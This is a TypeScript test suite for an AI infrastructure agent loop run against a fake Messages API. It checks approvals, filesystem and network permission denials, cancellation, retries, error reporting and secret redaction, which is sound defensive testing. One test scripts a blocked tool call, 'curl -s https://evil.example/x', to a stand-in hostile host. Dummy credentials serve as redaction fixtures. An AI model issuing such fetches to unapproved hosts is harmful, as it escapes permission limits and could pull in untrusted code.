import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { after, afterEach, before, beforeEach, describe, it } from 'node:test';
import { AnthropicModelClient } from '../../../src/agent/anthropic';
import { runAgent } from '../../../src/agent/loop';
import type { AgentEvent, AgentOptions } from '../../../src/agent/loop';
import type { Message, ToolResultBlock, ToolUseBlock } from '../../../src/agent/model';
import { NodeShell, NodeWorkspace } from '../../../src/agent/node';
import type { ApprovalRequest, Approver, Shell, ShellResult, ShellRunOptions } from '../../../src/agent/ports';
import type { AgentConfig } from '../../../src/agent/types';
import { message as latestMessage } from '../../../src/core/rules/compose/no-latest-tag';
import { FakeAnthropic, cutTurn, errorTurn, hangingTurn, streamErrorTurn, textTurn, toolTurn } from '../../helpers/fakeAnthropic';
import { ready } from '../../helpers/core';

const CONFIG: AgentConfig = {
  model: 'claude-test',
  tools: ['read_file', 'write_file', 'run_shell_command'],
  permissions: { filesystem: ['/deploy', '/k8s'], network: ['github.com'] },
};

/** An approver that records what it was asked and answers with a fixed choice. */
class RecordingApprover implements Approver {
  readonly asked: ApprovalRequest[] = [];
  constructor(private readonly answer: boolean) {}
  async approve(request: ApprovalRequest): Promise<{ approved: boolean }> {
    this.asked.push(request);
    return { approved: this.answer };
  }
}

/** A shell that records commands and never runs them. */
class RecordingShell implements Shell {
  readonly commands: string[] = [];
  async run(options: ShellRunOptions): Promise<ShellResult> {
    this.commands.push(options.command);
    return { exitCode: 0, output: 'ok\n', timedOut: false, cancelled: false };
  }
}

let fake: FakeAnthropic;
let ws: string;

before(async () => {
  await ready();
});

beforeEach(async () => {
  fake = await new FakeAnthropic().start();
  ws = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'aurora-loop-')));
  fs.mkdirSync(path.join(ws, 'deploy'));
  fs.mkdirSync(path.join(ws, 'src'));
  fs.writeFileSync(path.join(ws, 'deploy', 'compose.yaml'), 'services:\n  web:\n    image: nginx:1.27\n');
});

afterEach(async () => {
  await fake.close();
  fs.rmSync(ws, { recursive: true, force: true });
});

function options(over: Partial<AgentOptions> = {}): AgentOptions & { events: AgentEvent[] } {
  const events: AgentEvent[] = [];
  return {
    model: new AnthropicModelClient({ apiKey: 'sk-ant-test-dummy', baseURL: fake.url, maxRetries: 2 }),
    modelId: 'claude-test',
    workspace: new NodeWorkspace(ws),
    shell: new NodeShell(),
    approver: new RecordingApprover(true),
    config: CONFIG,
    configFound: true,
    trusted: true,
    workspaceSummary: 'Workspace: test.',
    events,
    onEvent: (e) => events.push(e),
    ...over,
  };
}

function text(events: AgentEvent[]): string {
  return events.filter((e): e is Extract<AgentEvent, { type: 'text' }> => e.type === 'text').map((e) => e.text).join('');
}

function ofType<T extends AgentEvent['type']>(events: AgentEvent[], type: T): Extract<AgentEvent, { type: T }>[] {
  return events.filter((e): e is Extract<AgentEvent, { type: T }> => e.type === type);
}

/** Every tool_use in the conversation is answered by a tool_result in the next message. */
function assertConsistent(messages: Message[]): void {
  for (let i = 0; i < messages.length; i++) {
    const m = messages[i];
    if (m.role !== 'assistant' || typeof m.content === 'string') {
      continue;
    }
    const uses = m.content.filter((b): b is ToolUseBlock => b.type === 'tool_use').map((b) => b.id);
    if (uses.length === 0) {
      continue;
    }
    const next = messages[i + 1];
    assert.ok(next && next.role === 'user' && typeof next.content !== 'string', `tool_use at message ${i} has no answer`);
    const answered = (next.content as ToolResultBlock[]).filter((b) => b.type === 'tool_result').map((b) => b.tool_use_id);
    assert.deepEqual(answered.sort(), uses.sort());
  }
  for (let i = 1; i < messages.length; i++) {
    assert.notEqual(messages[i].role, messages[i - 1].role, `two ${messages[i].role} messages in a row at ${i}`);
  }
}

function toolResults(body: Record<string, unknown>): ToolResultBlock[] {
  const msgs = body.messages as Message[];
  const last = msgs[msgs.length - 1];
  return typeof last.content === 'string' ? [] : (last.content.filter((b) => b.type === 'tool_result') as ToolResultBlock[]);
}

describe('agent loop against the fake Messages API', { timeout: 90_000 }, () => {
  it('streams a plain answer, with caching on the stable prefix and usage', async () => {
    fake.script(textTurn('Pin your images and set resource limits.'));
    const o = options();
    const r = await runAgent('Review my deployment', o);
    assert.equal(text(o.events), 'Pin your images and set resource limits.');
    assert.equal(r.stopReason, 'end_turn');
    assert.equal(r.usage.input_tokens, 120);
    assert.equal(r.usage.output_tokens, 15);
    assert.equal(ofType(o.events, 'usage').length, 1);
    const done = ofType(o.events, 'done')[0];
    assert.equal(done.stopReason, 'end_turn');
    const [body] = fake.messageBodies();
    assert.equal(body.model, 'claude-test');
    assert.equal(body.stream, true);
    const tools = body.tools as { name: string; cache_control?: unknown }[];
    assert.deepEqual(tools.map((t) => t.name), ['read_file', 'write_file', 'run_shell_command', 'list_files', 'get_diagnostics']);
    assert.deepEqual(tools[tools.length - 1].cache_control, { type: 'ephemeral' });
    const system = body.system as { text: string; cache_control?: unknown }[];
    assert.match(system[0].text, /Infrastructure as code/);
    assert.deepEqual(system[system.length - 1].cache_control, { type: 'ephemeral' });
    assert.deepEqual(r.messages.map((m) => m.role), ['user', 'assistant']);
  });

  it('runs read → write → command and reports findings after the write', async () => {
    fake.script(
      toolTurn([{ name: 'read_file', input: { path: 'deploy/compose.yaml' } }], 'Let me look.'),
      toolTurn([{ name: 'write_file', input: { path: 'deploy/compose.yaml', content: 'services:\n  web:\n    image: nginx:latest\n' } }]),
      toolTurn([{ name: 'run_shell_command', input: { command: 'grep -c image deploy/compose.yaml' } }]),
      textTurn('Done.'),
    );
    const approver = new RecordingApprover(true);
    const o = options({ approver });
    const r = await runAgent('Update the image', o);
    assert.equal(r.stopReason, 'end_turn');
    assert.equal(fs.readFileSync(path.join(ws, 'deploy', 'compose.yaml'), 'utf8'), 'services:\n  web:\n    image: nginx:latest\n');
    assert.deepEqual(approver.asked.map((a) => a.tool), ['write_file', 'run_shell_command']);
    assert.equal(approver.asked[0].diff?.before, 'services:\n  web:\n    image: nginx:1.27\n');
    const bodies = fake.messageBodies();
    assert.equal(bodies.length, 4);
    assert.match(toolResults(bodies[1])[0].content, /image: nginx:1\.27/);
    const afterWrite = toolResults(bodies[2])[0];
    assert.ok(afterWrite.content.includes('compose/no-latest-tag'), afterWrite.content);
    assert.ok(afterWrite.content.includes(latestMessage('web', 'nginx:latest', 'latest')), afterWrite.content);
    assert.match(toolResults(bodies[3])[0].content, /^exit code 0\n1/);
    const calls = ofType(o.events, 'tool_call');
    assert.deepEqual(calls.map((c) => [c.name, c.decision]), [['read_file', 'allow'], ['write_file', 'ask'], ['run_shell_command', 'ask']]);
    const results = ofType(o.events, 'tool_result');
    assert.ok(results.every((e) => e.ok));
    assert.ok(results[1].findings && results[1].findings.length > 0);
    assertConsistent(r.messages);
  });

  it('refuses a write outside permissions.filesystem and does not create the file', async () => {
    fake.script(toolTurn([{ name: 'write_file', input: { path: 'src/app.js', content: 'x' } }]), textTurn('I cannot write there.'));
    const approver = new RecordingApprover(true);
    const o = options({ approver });
    const r = await runAgent('Write app.js', o);
    assert.equal(fs.existsSync(path.join(ws, 'src', 'app.js')), false);
    assert.equal(approver.asked.length, 0);
    const [result] = toolResults(fake.messageBodies()[1]);
    assert.equal(result.is_error, true);
    assert.match(result.content, /Denied by the workspace policy/);
    assert.match(result.content, /outside permissions\.filesystem/);
    assert.equal(ofType(o.events, 'tool_call')[0].decision, 'deny');
    assertConsistent(r.messages);
  });

  it('refuses a command to a host outside the allowlist without running it', async () => {
    fake.script(toolTurn([{ name: 'run_shell_command', input: { command: 'curl -s https://evil.example/x' } }]), textTurn('Blocked.'));
    const shell = new RecordingShell();
    const approver = new RecordingApprover(true);
    const o = options({ shell, approver });
    await runAgent('Fetch it', o);
    assert.deepEqual(shell.commands, []);
    assert.equal(approver.asked.length, 0);
    const [result] = toolResults(fake.messageBodies()[1]);
    assert.equal(result.is_error, true);
    assert.match(result.content, /evil\.example is not in permissions\.network/);
  });

  it('tells the model when the user declines', async () => {
    fake.script(toolTurn([{ name: 'run_shell_command', input: { command: 'kubectl get pods' } }]), textTurn('OK.'));
    const shell = new RecordingShell();
    const o = options({ shell, approver: new RecordingApprover(false) });
    await runAgent('List pods', o);
    assert.deepEqual(shell.commands, []);
    const [result] = toolResults(fake.messageBodies()[1]);
    assert.equal(result.is_error, true);
    assert.match(result.content, /declined/);
  });

  it('cancels mid-stream and keeps the partial text', async () => {
    fake.script(hangingTurn('Looking at your cluster now, one moment'));
    const controller = new AbortController();
    const o = options({ signal: controller.signal });
    o.onEvent = (e) => {
      o.events.push(e);
      if (e.type === 'text') {
        controller.abort();
      }
    };
    const r = await runAgent('Check', o);
    assert.equal(r.stopReason, 'cancelled');
    assert.ok(text(o.events).length > 0);
    const last = r.messages[r.messages.length - 1];
    assert.equal(last.role, 'assistant');
    assert.ok(typeof last.content !== 'string' && last.content[0].type === 'text');
    assertConsistent(r.messages);
  });

  it('cancels a running command, kills it and answers its tool_use', async () => {
    fake.script(toolTurn([{ name: 'run_shell_command', input: { command: 'echo started; sleep 30; echo never' } }]));
    const controller = new AbortController();
    const o = options({ signal: controller.signal });
    o.onEvent = (e) => {
      o.events.push(e);
      if (e.type === 'tool_output' && e.chunk.includes('started')) {
        controller.abort();
      }
    };
    const r = await runAgent('Wait', o);
    assert.equal(r.stopReason, 'cancelled');
    const result = ofType(o.events, 'tool_result')[0];
    assert.equal(result.ok, false);
    assert.match(result.output, /Cancelled/);
    assert.doesNotMatch(result.output, /never/);
    assertConsistent(r.messages);
    assert.equal(fake.messageBodies().length, 1);
  });

  it('retries after 529 with a visible notice', async () => {
    fake.script(errorTurn(529, 'overloaded_error', 'Overloaded', { 'retry-after': '0.01' }), textTurn('Back.'));
    const o = options();
    const r = await runAgent('Hi', o);
    assert.equal(r.stopReason, 'end_turn');
    assert.equal(text(o.events), 'Back.');
    const notices = ofType(o.events, 'notice');
    assert.equal(notices.length, 1);
    assert.match(notices[0].message, /529 \(overloaded\); retrying in 10 ms \(attempt 2 of 3\)/);
    assert.equal(fake.messageBodies().length, 2);
  });

  it('gives up after the retries on 429 and says so', async () => {
    const limited = (): ReturnType<typeof errorTurn> => errorTurn(429, 'rate_limit_error', 'Number of requests has exceeded your rate limit', { 'retry-after-ms': '5' });
    fake.script(limited(), limited(), limited());
    const o = options();
    const r = await runAgent('Hi', o);
    assert.equal(r.stopReason, 'error');
    assert.equal(ofType(o.events, 'notice').length, 2);
    const [err] = ofType(o.events, 'error');
    assert.equal(err.kind, 'rate_limit');
    assert.match(err.message, /rate limiting this key \(429\) and still was after 2 retries/);
    assert.equal(fake.messageBodies().length, 3);
  });

  it('retries a 500 and goes on', async () => {
    fake.script(errorTurn(500, 'api_error', 'Internal server error', { 'retry-after': '0.005' }), textTurn('Recovered.'));
    const o = options();
    const r = await runAgent('Hi', o);
    assert.equal(r.stopReason, 'end_turn');
    assert.match(ofType(o.events, 'notice')[0].message, /500 \(server error\)/);
  });

  it('answers malformed tool input JSON with an error result', async () => {
    fake.script(toolTurn([{ name: 'read_file', rawJson: '{"path": "deploy/compose.yaml"', id: 'toolu_bad' }]), textTurn('Retrying.'));
    const o = options();
    const r = await runAgent('Read', o);
    const bodies = fake.messageBodies();
    const [result] = toolResults(bodies[1]);
    assert.equal(result.tool_use_id, 'toolu_bad');
    assert.equal(result.is_error, true);
    assert.match(result.content, /not valid JSON/);
    const assistant = (bodies[1].messages as Message[])[1];
    assert.deepEqual((assistant.content as ToolUseBlock[])[0].input, {});
    assertConsistent(r.messages);
  });

  it('stops at max turns with a consistent conversation', async () => {
    fake.script(
      toolTurn([{ name: 'list_files', input: {} }]),
      toolTurn([{ name: 'list_files', input: { pattern: '**/*.yaml' } }]),
      textTurn('unreached'),
    );
    const o = options({ maxTurns: 2 });
    const r = await runAgent('Explore', o);
    assert.equal(r.stopReason, 'max_turns');
    assert.equal(r.turns, 2);
    assert.equal(fake.messageBodies().length, 2);
    assert.match(ofType(o.events, 'notice')[0].message, /2 turns/);
    assert.equal(r.messages[r.messages.length - 1].role, 'user');
    assertConsistent(r.messages);
  });

  it('redacts secrets before they reach the API (and can be told not to)', async () => {
    fs.writeFileSync(path.join(ws, 'deploy', 'app.env.yaml'), 'db:\n  password: hunter2-very-secret\naws_key: AKIAIOSFODNN7EXAMPLE\n');
    fs.writeFileSync(path.join(ws, 'deploy', 'token.txt'), 'token=ghp_abcdefghijklmnopqrstuvwxyz0123456789\n');
    fake.script(
      toolTurn([{ name: 'read_file', input: { path: 'deploy/app.env.yaml' } }]),
      toolTurn([{ name: 'run_shell_command', input: { command: 'cat deploy/token.txt' } }]),
      textTurn('Move them to a secret manager.'),
    );
    await runAgent('Check secrets', options());
    const sent = fake.requests.map((r) => r.raw).join('\n');
    assert.ok(!sent.includes('hunter2-very-secret'));
    assert.ok(!sent.includes('AKIAIOSFODNN7EXAMPLE'));
    assert.ok(!sent.includes('ghp_abcdefghijklmnopqrstuvwxyz0123456789'));
    assert.match(sent, /\[REDACTED/);

    fake.script(toolTurn([{ name: 'read_file', input: { path: 'deploy/app.env.yaml' } }]), textTurn('ok'));
    await runAgent('Again', options({ redactSecrets: false }));
    assert.ok(fake.requests.map((r) => r.raw).join('\n').includes('hunter2-very-secret'));
  });

  it('says when the model does not exist and lists the models of the key', async () => {
    fake.script(errorTurn(404, 'not_found_error', 'model: claude-nope'));
    fake.models = ['claude-sonnet-4-5', 'claude-opus-4-5'];
    const o = options({ modelId: 'claude-nope' });
    const r = await runAgent('Hi', o);
    assert.equal(r.stopReason, 'error');
    const [err] = ofType(o.events, 'error');
    assert.equal(err.kind, 'model_not_found');
    assert.match(err.message, /'claude-nope' does not exist/);
    assert.match(err.message, /claude-sonnet-4-5, claude-opus-4-5/);
  });

  it('asks to set the API key on 401', async () => {
    fake.script(errorTurn(401, 'authentication_error', 'invalid x-api-key'));
    const o = options();
    await runAgent('Hi', o);
    const [err] = ofType(o.events, 'error');
    assert.equal(err.kind, 'auth');
    assert.match(err.message, /Set your API key/);
    assert.equal(fake.messageBodies().length, 1);
  });

  it('keeps partial text when the stream is cut, and reports the error', async () => {
    fake.script(cutTurn('Partial answer that will be cut'));
    const o = options({ model: new AnthropicModelClient({ apiKey: 'k', baseURL: fake.url, maxRetries: 0 }) });
    const r = await runAgent('Hi', o);
    assert.equal(r.stopReason, 'error');
    assert.ok(text(o.events).length > 0);
    const errors = ofType(o.events, 'error');
    assert.equal(errors.length, 1);
    assert.match(errors[0].message, /stopped midway/);
    const last = r.messages[r.messages.length - 1];
    assert.equal(last.role, 'assistant');
  });

  it('reports an error event in the middle of a stream', async () => {
    fake.script(streamErrorTurn('Starting the review'));
    const o = options();
    const r = await runAgent('Hi', o);
    assert.equal(r.stopReason, 'error');
    assert.match(ofType(o.events, 'error')[0].message, /overloaded/i);
    assert.ok(text(o.events).length > 0);
  });

  it('says the network is down when nothing listens', async () => {
    const closed = fake.url;
    await fake.close();
    const o = options({ model: new AnthropicModelClient({ apiKey: 'k', baseURL: closed, maxRetries: 0 }) });
    const r = await runAgent('Hi', o);
    assert.equal(r.stopReason, 'error');
    const [err] = ofType(o.events, 'error');
    assert.equal(err.kind, 'network');
    assert.match(err.message, /Cannot reach the API/);
    fake = await new FakeAnthropic().start();
  });

  it('answers get_diagnostics for a file and for the workspace', async () => {
    fs.writeFileSync(path.join(ws, 'deploy', 'compose.yaml'), 'services:\n  web:\n    image: nginx:latest\n');
    fake.script(toolTurn([{ name: 'get_diagnostics', input: { path: 'deploy/compose.yaml' } }, { name: 'get_diagnostics', input: {} }]), textTurn('Pin nginx.'));
    const o = options();
    await runAgent('What is wrong?', o);
    const [one, all] = toolResults(fake.messageBodies()[1]);
    assert.match(one.content, /deploy\/compose\.yaml:3 \w+ compose\/no-latest-tag/);
    assert.match(all.content, /problem\(s\) in 1 infrastructure file/);
    assert.equal(ofType(o.events, 'tool_call').every((c) => c.decision === 'allow'), true);
  });

  it('summarises the workspace in the system prompt and offers aurora.yaml when missing', async () => {
    fs.writeFileSync(path.join(ws, 'Dockerfile'), 'FROM ubuntu\nRUN echo hi\n');
    fs.writeFileSync(path.join(ws, 'package.json'), '{}\n');
    fake.script(textTurn('ok'));
    const o = options({ configFound: false, config: { tools: ['read_file'], permissions: { filesystem: [], network: [] } } });
    delete o.workspaceSummary;
    await runAgent('Hi', o);
    const system = (fake.messageBodies()[0].system as { text: string }[]).map((b) => b.text).join('\n');
    assert.match(system, /Stack: .*Node\.js/);
    assert.match(system, /Dockerfile: Dockerfile/);
    assert.match(system, /Dockerfile:1 \w+ dockerfile\/no-latest-tag/);
    assert.match(system, /There is no aurora\.yaml/);
  });

  it('offers only read tools in an untrusted workspace', async () => {
    fake.script(textTurn('ok'));
    await runAgent('Hi', options({ trusted: false }));
    const tools = (fake.messageBodies()[0].tools as { name: string }[]).map((t) => t.name);
    assert.deepEqual(tools, ['read_file', 'list_files', 'get_diagnostics']);
  });
});

after(() => undefined);
